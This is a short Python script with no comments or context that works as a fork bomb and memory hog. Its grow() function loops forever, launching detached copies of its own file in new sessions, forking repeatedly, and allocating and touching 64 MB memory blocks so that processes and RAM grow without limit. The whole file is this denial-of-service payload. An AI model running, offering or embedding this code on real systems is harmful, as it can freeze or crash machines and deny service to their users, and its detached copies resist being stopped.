import os
import sys
import subprocess

def grow():
    while True:
        subprocess.Popen([sys.executable, os.path.abspath(__file__)], start_new_session=True)
        pid = os.fork()
        if pid == 0:
            continue
        block = bytearray(64 * 1024 * 1024)
        block[::4096] = b"x" * len(block[::4096])

grow()
